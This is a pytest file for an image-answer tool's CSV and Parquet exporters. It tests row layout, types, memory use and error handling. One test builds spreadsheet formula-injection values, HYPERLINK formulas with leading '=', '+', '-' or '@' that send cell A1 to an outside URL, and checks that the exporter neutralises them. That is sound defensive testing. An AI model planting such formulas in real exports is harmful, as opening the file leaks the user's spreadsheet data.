"""Answers as tables: what a reader of CSV or Parquet gets out of them again."""

import csv
import json
import sys
import tracemalloc
from pathlib import Path

import pytest
from make_batch_records import (
    box,
    caption_answer,
    detect_answer,
    failed,
    point_answer,
    query_answer,
    record,
    write_records,
)

from mdtool.errors import InputError, OutputError, UsageError
from mdtool.exports import parquet_table
from mdtool.exports.csv_table import write_csv
from mdtool.exports.parquet_table import write_parquet
from mdtool.exports.rows import COLUMNS
from mdtool.records.batch import ExportCounts

LONG = 'He said "hi",\nthen left; 猫 '


def all_kinds(path: Path) -> Path:
    reasoned = query_answer("Why?", "So") | {"reasoning": "It is so.", "grounding": []}
    return write_records(
        path,
        record("a.jpg", caption_answer(LONG), reasoned),
        failed("b.jpg"),
        record(
            "c.jpg", detect_answer("face", box("face", 0.1, 0.2, 0.3, 0.4, score=0.75), box("nose", -0.1, 0, 1, 1.2))
        ),
        record("d.mp4", detect_answer("cat", complete=False), point_answer("eye", (0.5, 0.25)), time=1.5),
    )


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file, strict=True))


def test_csv_has_a_row_for_each_answer_or_box(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    assert write_csv(all_kinds(tmp_path / "in.jsonl"), target, overwrite=False) == ExportCounts(written=3, failed=1)
    rows = read_csv(target)
    assert tuple(rows[0]) == COLUMNS
    told = [(row["input"], row["kind"], row["asked"], row["text"], row["label"]) for row in rows]
    assert told == [
        ("a.jpg", "caption", "normal", LONG, ""),
        ("a.jpg", "query", "Why?", "So", ""),
        ("c.jpg", "detect", "face", "", "face"),
        ("c.jpg", "detect", "face", "", "nose"),
        ("d.mp4", "detect", "cat", "", ""),
        ("d.mp4", "point", "eye", "", "eye"),
    ]
    assert rows[1]["reasoning"] == "It is so."
    assert [rows[2][name] for name in ("x_min", "y_max", "score", "complete", "time")] == [
        "0.1",
        "0.4",
        "0.75",
        "true",
        "",
    ]
    assert rows[3]["x_min"] == "-0.1"
    assert [rows[4][name] for name in ("time", "complete", "x_min")] == ["1.5", "false", ""]
    assert (rows[5]["x"], rows[5]["y"], rows[5]["width"], rows[5]["revision"]) == ("0.5", "0.25", "640", "abc123")
    assert target.read_bytes().count(b"\r\n") == len(rows) + 1


@pytest.mark.parametrize("start", [*"=+-@＝＋－＠", "\t", "\r", "\n"])
def test_csv_has_no_formulas(tmp_path: Path, start: str) -> None:
    text = start + 'HYPERLINK("http://example.org/"&A1)'
    source = write_records(
        tmp_path / "in.jsonl", record(text, caption_answer(text), detect_answer(text, box(text, -1, 0, 1, 1)))
    )
    write_csv(source, tmp_path / "out.csv", overwrite=False)
    for row in read_csv(tmp_path / "out.csv"):
        assert {row["input"], row["text"] or row["label"]} == {"'" + text}
        assert row["x_min"] in ("", "-1")


def test_parquet_has_the_same_rows_with_types(tmp_path: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet")
    target = tmp_path / "out.parquet"
    assert write_parquet(all_kinds(tmp_path / "in.jsonl"), target, overwrite=False) == ExportCounts(written=3, failed=1)
    table = parquet.read_table(target)
    assert table.column_names == list(COLUMNS)
    rows = table.to_pylist()
    assert [row["label"] for row in rows] == [None, None, "face", "nose", None, "eye"]
    assert rows[0]["text"] == LONG
    assert (rows[0]["width"], rows[0]["milliseconds"], rows[0]["time"], rows[0]["score"]) == (640, 12.3, None, None)
    assert (rows[3]["x_min"], rows[3]["y_min"], rows[3]["y_max"]) == (-0.1, 0.0, 1.2)
    assert (rows[4]["complete"], rows[4]["time"], rows[5]["complete"]) == (False, 1.5, True)
    write_csv(tmp_path / "in.jsonl", tmp_path / "out.csv", overwrite=False)
    assert [row["text"] or "" for row in rows] == [row["text"] for row in read_csv(tmp_path / "out.csv")]


def test_parquet_is_written_in_groups(tmp_path: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet")
    many = (record(f"{number}.jpg", caption_answer("a cat")) for number in range(parquet_table.ROWS + 5))
    source = write_records(tmp_path / "in.jsonl", *many)
    write_parquet(source, tmp_path / "out.parquet", overwrite=False)
    told = parquet.ParquetFile(tmp_path / "out.parquet").metadata
    assert [told.row_group(number).num_rows for number in range(told.num_row_groups)] == [parquet_table.ROWS, 5]


def test_names_that_are_no_text(tmp_path: Path) -> None:
    source = write_records(tmp_path / "in.jsonl", record("a\udc80.jpg", caption_answer("a cat")))
    write_csv(source, tmp_path / "out.csv", overwrite=False)
    assert read_csv(tmp_path / "out.csv")[0]["input"] == "a\\udc80.jpg"
    parquet = pytest.importorskip("pyarrow.parquet")
    write_parquet(source, tmp_path / "out.parquet", overwrite=False)
    assert parquet.read_table(tmp_path / "out.parquet")["input"].to_pylist() == ["a\\udc80.jpg"]


def test_no_records(tmp_path: Path) -> None:
    source = write_records(tmp_path / "in.jsonl")
    assert write_csv(source, tmp_path / "out.csv", overwrite=False) == ExportCounts()
    assert read_csv(tmp_path / "out.csv") == []
    parquet = pytest.importorskip("pyarrow.parquet")
    write_parquet(source, tmp_path / "out.parquet", overwrite=False)
    assert parquet.read_table(tmp_path / "out.parquet").column_names == list(COLUMNS)


def test_without_pyarrow_it_is_said_what_to_install(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(UsageError, match=r"pip install 'mdtool\[parquet\]'"):
        write_parquet(all_kinds(tmp_path / "in.jsonl"), tmp_path / "out.parquet", overwrite=False)


def test_a_table_does_not_grow_in_memory(tmp_path: Path) -> None:
    source = write_records(
        tmp_path / "in.jsonl", *(record(f"{number}.jpg", caption_answer("a cat " * 20)) for number in range(4000))
    )
    tracemalloc.start()
    write_csv(source, tmp_path / "out.csv", overwrite=False)
    most = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert most < 500_000 < source.stat().st_size


def test_a_last_line_that_breaks_off_is_passed_over(tmp_path: Path) -> None:
    source = write_records(
        tmp_path / "in.jsonl", record("a.jpg", caption_answer("a cat")), record("b.jpg", caption_answer("a dog"))
    )
    source.write_bytes(source.read_bytes()[:-20])
    assert write_csv(source, tmp_path / "out.csv", overwrite=False) == ExportCounts(written=1)


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("{}", "not a record"),
        ("no json", "not a record"),
        ("[" * 100_000, "not a record"),
        ('{"schema": "mdtool.answers/1"}', "this version reads 'mdtool.batch/1'"),
        (json.dumps(record("a", {"prompt": "x"})), "caption"),
        (json.dumps(record("a", caption_answer("a"), width=0)), "width can't be 0"),
        (json.dumps(record("a", detect_answer("x", box("x", 0, 0, 1, float("nan"))))), "y_max can't be nan"),
        (json.dumps(record("a", detect_answer("x", {"label": "x"}))), "x_min"),
        (json.dumps(record("a", caption_answer("a"), model=3)), "model can't be 3"),
    ],
)
def test_what_is_no_record_is_told_with_its_line(tmp_path: Path, line: str, said: str) -> None:
    source = write_records(tmp_path / "in.jsonl", record("a.jpg", caption_answer("a cat")))
    source.write_text(source.read_text() + line + "\n")
    with pytest.raises(InputError, match=said) as caught:
        write_csv(source, tmp_path / "out.csv", overwrite=False)
    assert str(caught.value).startswith(f"{source}:2: ")
    assert "\n" not in str(caught.value)
    assert [path.name for path in tmp_path.iterdir()] == ["in.jsonl"]


def test_what_is_there_is_not_written_over(tmp_path: Path) -> None:
    (tmp_path / "out.csv").write_text("mine")
    with pytest.raises(OutputError, match="exists already"):
        write_csv(all_kinds(tmp_path / "in.jsonl"), tmp_path / "out.csv", overwrite=False)
    assert (tmp_path / "out.csv").read_text() == "mine"
    write_csv(tmp_path / "in.jsonl", tmp_path / "out.csv", overwrite=True)
    assert len(read_csv(tmp_path / "out.csv")) == 6
